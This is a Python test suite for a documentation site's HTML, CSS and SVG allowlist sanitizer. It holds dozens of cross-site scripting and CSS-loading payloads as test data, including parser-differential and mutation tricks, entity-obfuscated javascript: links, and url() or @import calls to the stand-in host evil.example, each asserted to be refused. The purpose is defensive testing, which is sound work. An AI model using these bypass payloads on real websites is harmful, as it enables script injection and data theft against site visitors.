"""The allowlist reads markup as a browser does (lexbor or html5lib) and CSS as a browser does (tinycss2).

Each case is a pull request that passed the old check (Python's html.parser and regexes) or one of
its neighbours; each must be refused, naming the file and line.
"""

from __future__ import annotations

import pytest

from conftest import ROOT
from edition.checks.content_safety import check_content_safety, check_published_file
from edition.checks.sanitize import (
    css_findings,
    fragment_findings,
    html5lib_fragment,
    lexbor_fragment,
    markup_findings,
    text_markup,
)
from edition.from_mkdocs import load_project
from helpers import edition_from, page


def refused(tmp_path, body: str) -> list[str]:
    problems = check_content_safety(edition_from(tmp_path, {"p.en.md": page("T", body)}))
    for problem in problems:
        assert problem.path == "docs/p.en.md" and problem.line >= 6 and problem.fix, str(problem)
    return [problem.message for problem in problems]


# Markup a browser runs although a simpler parser sees a comment, text or a harmless element.
PARSER_DIFFERENTIALS = {
    "empty comment <!-->": "Intro.\n\n<!--><img src=x onerror=alert(1)>-->",
    "comment closed by --!>": "<!-- x --!><img src=x onerror=alert(1)>-->",
    "CDATA in HTML": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "svg style holds markup": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math style holds markup": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "attribute after a slash": "<svg/onload=alert(1)>",
    "tag name with a newline": "<img\nsrc=x\nonerror=alert(1)>",
    "entity in a scheme": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "control character before a scheme": '<a href="&#1; javascript:alert(1)">x</a>',
    "textarea swallowing the page": "<textarea>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "svg animate changing a link": '<svg><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg foreignObject": "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "data-md attribute": '<div data-md-component="announce">x</div>',
    "form attribute on a button": '<button formaction="https://evil.example/">x</button>',
}


# Markup whose tree the HTML5 algorithm builds in ways a simpler parser would not (misnesting,
# tables, raw text elements, character references). Each hides something to refuse.
TREE_BUILDING_ATTACKS = {
    "table foster parenting": "<table><tr><td>1</td></tr><img src=x onerror=alert(1)></table>",
    "adoption agency": "<a href='#1'><p>x<a href='javascript:alert(1)'>y</a></p></a>",
    "image becomes img": "<image src=x onerror=alert(1)>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "xmp then markup": "<xmp>x</xmp><img src=y onerror=alert(1)>",
    "style raw text": "<style>a{background:url(//evil.example/a.png)}</style><p>x</p>",
    "duplicate attributes": '<a href="javascript:alert(1)" href="#ok">x</a>',
    "newline in a scheme": '<a href="java&#x0A;script:alert(1)">x</a>',
    "form inside form": "<form action=//evil.example><form><input></form>",
    "option holding an image": "<select><option><img src=x onerror=alert(1)></select>",
    "unknown element with a handler": "<foo-bar onclick=alert(1)>x</foo-bar>",
    "attribute without a value": "<button hidden formaction=//evil.example>x</button>",
}


@pytest.mark.parametrize("case", [*PARSER_DIFFERENTIALS, *TREE_BUILDING_ATTACKS])
def test_markup_a_browser_would_run_is_refused(tmp_path, case):
    assert refused(tmp_path, {**PARSER_DIFFERENTIALS, **TREE_BUILDING_ATTACKS}[case]), f"{case} was not refused"


CSS_ATTACKS = {
    "url() with an escaped colon": "a { background: url(https\\3a //evil.example/a.png) }",
    "escaped function name": "a { background: u\\72l(//evil.example/a.png) }",
    "quoted url()": "a { background: url( 'https://evil.example/a.png' ) }",
    "image-set with a string": "a { background-image: image-set('https://evil.example/a.png' 1x) }",
    "-webkit-image-set": 'a { background-image: -webkit-image-set(url("//evil.example/a.png") 1x) }',
    "@import without a space": '@import"//evil.example/f.css";',
    "@import in upper case": "@IMPORT url(https://evil.example/f.css);",
    "@import with an escaped keyword": '@\\69mport "https://evil.example/f.css";',
    "font-face": "@font-face { font-family: x; src: url(//evil.example/f.woff2) }",
    "nested in @media": "@media print { a { background: url(https://evil.example/p.png) } }",
    "cursor": "a { cursor: url(https://evil.example/c.cur), auto }",
    "expression": "a { width: expression(alert(1)) }",
    "behavior": "a { behavior: url(x.htc) }",
    "-moz-binding": "a { -moz-binding: url(x.xml#x) }",
    "backslash host": "a { background: url(\\\\\\\\evil.example\\\\a.png) }",
}


@pytest.mark.parametrize("case", CSS_ATTACKS, ids=list(CSS_ATTACKS))
def test_css_that_loads_from_elsewhere_or_runs_script_is_refused(tmp_path, case):
    css = CSS_ATTACKS[case]
    assert list(css_findings(css, "css")), f"{case}: not refused"
    sheet = tmp_path / "x.css"
    sheet.write_text("/* header */\nbody { color: black }\n" + css + "\n", encoding="utf-8")
    [problem, *_] = check_published_file(sheet, "docs/assets/x.css")
    assert problem.line == 3


@pytest.mark.parametrize("case", ["url() with an escaped colon", "image-set with a string", "font-face"])
def test_css_in_a_style_attribute_and_element_is_read_the_same_way(tmp_path, case):
    css = CSS_ATTACKS[case]
    assert refused(tmp_path, f"<style>\n{css}\n</style>")
    if "{" in css and not css.startswith("@"):
        declarations = css[css.index("{") + 1 : css.rindex("}")]
        assert refused(tmp_path, f'<p style="{declarations}">x</p>')


def test_local_css_passes():
    css = "@import 'print.css';\na { background: url(../img/a.png); background: image-set('a.png' 1x) }"
    assert list(css_findings(css, "css")) == []


@pytest.mark.parametrize(
    ("text", "phrase"),
    [
        ('<!DOCTYPE svg [<!ENTITY x "&#60;script&#62;alert(1)&#60;/script&#62;">]>\n<svg>&x;</svg>', "DOCTYPE"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg">\n<style><![CDATA[ a { fill: url(https://evil.example/p) } ]]></style></svg>',
            "loads",
        ),
        ('<svg xmlns="http://www.w3.org/2000/svg">\n<foreignObject><div/></foreignObject></svg>', "foreignobject"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">\n<a x:href="javascript:alert(1)"/></svg>',
            "not allowed",
        ),
    ],
)
def test_svg_files_are_read_as_xml_too(tmp_path, text, phrase):
    path = tmp_path / "logo.svg"
    path.write_text(text, encoding="utf-8")
    problems = check_published_file(path, "docs/logo.svg")
    assert any(phrase in p.message for p in problems), [str(p) for p in problems]


def test_a_published_html_document_may_have_its_head_but_no_script(tmp_path):
    path = tmp_path / "note.html"
    path.write_text(
        '<!doctype html><html><head><meta charset="utf-8"><title>N</title>'
        '<link rel="stylesheet" href="note.css"></head><body><p>Note.</p></body></html>\n',
        encoding="utf-8",
    )
    assert check_published_file(path, "docs/note.html") == []
    path.write_text(path.read_text().replace("<p>Note.</p>", "<p>Note.</p>\n<script>x()</script>"))
    [problem] = check_published_file(path, "docs/note.html")
    assert problem.line == 2 and "<script>" in problem.message


def test_attributes_and_schemes_outside_the_allowlist_are_refused(tmp_path):
    messages = refused(
        tmp_path,
        '<a href="tel:123" ping="https://t.example/">x</a> <img src="a.png" usemap="#m"> <a href="file:///etc/passwd">f</a>',
    )
    assert any("scheme tel:" in m for m in messages)
    assert any("attribute ping=" in m for m in messages)
    assert any("attribute usemap=" in m for m in messages)
    assert any("scheme file:" in m for m in messages)


def test_the_content_the_edition_uses_passes(tmp_path):
    body = (
        '<div class="edition-table" data-filter-column="2" markdown>\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n</div>\n\n'
        '<figure class="edition-chart" id="chart-x"><figcaption>C</figcaption><svg xmlns="http://www.w3.org/2000/svg" '
        'viewBox="0 0 10 10" role="img" aria-labelledby="t"><title id="t">T</title><rect x="0" y="0" width="5" '
        'height="5" rx="1" fill="currentColor"/><text x="1" y="1" font-size="3">1</text></svg></figure>\n\n'
        '<abbr title="A note" tabindex="0">term</abbr> <a href="https://example.org/" hreflang="en">link</a> '
        '<a href="data/figures.csv" download>csv</a> <span lang="zh">中文</span>'
    )
    assert refused(tmp_path, body) == []


@pytest.mark.parametrize(
    ("value", "markup"),
    [
        ("Original text © portal", False),
        ('He said "no" & left', False),
        ("<b>bold</b>", True),
        ("<!--><img src=x onerror=alert(1)>-->", True),
        ("a > b", True),
    ],
)
def test_text_markup_reads_strings_as_the_browser_would(value, markup):
    assert bool(text_markup(value)) is markup


# Markup with nothing to refuse, whose tree both parsers must build alike.
TREE_BUILDING_CASES = {
    "misnested formatting": "<p><b><i>x</b>y</i></p>",
    "paragraph closed by a table": "<p>x<table><tr><td>y</td></tr></table>",
    "end tag br": "x</br>y",
    "escaped markup in code": "<p>a<code>&lt;b&gt;</code></p><pre>x\n</pre>",
    "character references": '<p title="&notin; &amp &lt">&copy &#x1F600; &#0;</p>',
    "null and stray end tags": "x\x00y</p></div></span><p>z",
    "lists and definitions": "<ul><li>a<li>b</ul><dl><dt>t<dd>d</dl>",
}


def _tree(root):
    """A parse as the allowlist reads it: elements with their attributes, and the text outside comments."""
    elements = [(e.tag, sorted(e.attrib.items())) for e in root.iter() if isinstance(e.tag, str)]
    return elements, "".join(_text(root))


def _text(element):
    if isinstance(element.tag, str):
        yield element.text or ""
        for child in element:
            yield from _text(child)
    yield element.tail or ""


@pytest.mark.parametrize("html", TREE_BUILDING_CASES.values(), ids=list(TREE_BUILDING_CASES))
def test_lexbor_builds_the_tree_html5lib_builds(html):
    """parse_fragment's fast path (lexbor) against html5lib on the same markup: the same elements,
    attributes and text."""
    tree, left_out = lexbor_fragment(html)
    assert not left_out and _tree(tree) == _tree(html5lib_fragment(html))


def test_lexbor_builds_the_tree_html5lib_builds_for_every_page_of_the_edition():
    """Every page of the real edition, rendered as the checks render it (most take the fast path)."""
    _, edition = load_project(ROOT)
    fast_pages = 0
    for file in edition.files:
        fast, left_out = lexbor_fragment(file.rendered)
        if not left_out:
            fast_pages += 1
            assert _tree(fast) == _tree(html5lib_fragment(file.rendered)), file.rel
    assert fast_pages > len(edition.files) / 2


def test_foreign_content_is_read_by_html5lib_too_and_the_rest_by_lexbor():
    """SVG, MathML, templates and noscript are left to html5lib, whose tree has their namespaces;
    what lexbor sees in the rest of the same content is refused too (html5lib would lose the
    foster-parented image here)."""
    for html in (
        "<svg><style>x</style></svg>",
        "<math><mi>x</mi></math>",
        "<template>x</template>",
        "<noscript>x</noscript>",
    ):
        assert lexbor_fragment(html)[1]
    html = (
        "<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>"
        + TREE_BUILDING_ATTACKS["table foster parenting"]
    )
    messages = [finding.message for finding in fragment_findings(html)]
    assert any("<foreignobject>" in m.lower() or "iframe" in m for m in messages), messages
    assert any("onerror" in m for m in messages), messages
    chart = '<svg viewBox="0 0 1 1" role="img"><title>T</title><rect x="0" y="0" width="1" height="1"/></svg>'
    assert fragment_findings(chart) == []


def test_where_html5lib_is_out_of_date_the_fast_path_reads_as_browsers_do():
    """html5lib drops an element foster-parented out of a table in a fragment; browsers put it
    before the table, and so does lexbor, so its event handler is refused."""
    html = TREE_BUILDING_ATTACKS["table foster parenting"]
    assert not [m for m in refused_markup(html, html5lib_fragment(html)) if "onerror" in m]
    assert [m for m in refused_markup(html) if "onerror" in m]


def refused_markup(html: str, tree=None) -> list[str]:
    return [finding.message for finding in (markup_findings(tree) if tree is not None else fragment_findings(html))]
